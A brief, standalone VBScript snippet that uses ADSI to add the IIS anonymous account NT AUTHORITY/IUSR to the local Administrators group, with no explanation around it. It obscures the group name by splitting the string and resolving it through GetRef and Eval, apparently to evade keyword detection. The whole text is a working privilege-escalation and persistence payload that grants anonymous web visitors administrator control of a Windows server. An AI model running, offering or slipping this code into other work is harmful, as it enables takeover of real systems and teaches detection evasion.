Function GroupName()
  GroupName = "Admin" & "istrators"
End Function
Set f = GetRef("GroupName")
path = Eval("""WinNT://./"" & f() & "",group""")
GetObject(path).Add "WinNT://NT AUTHORITY/IUSR"
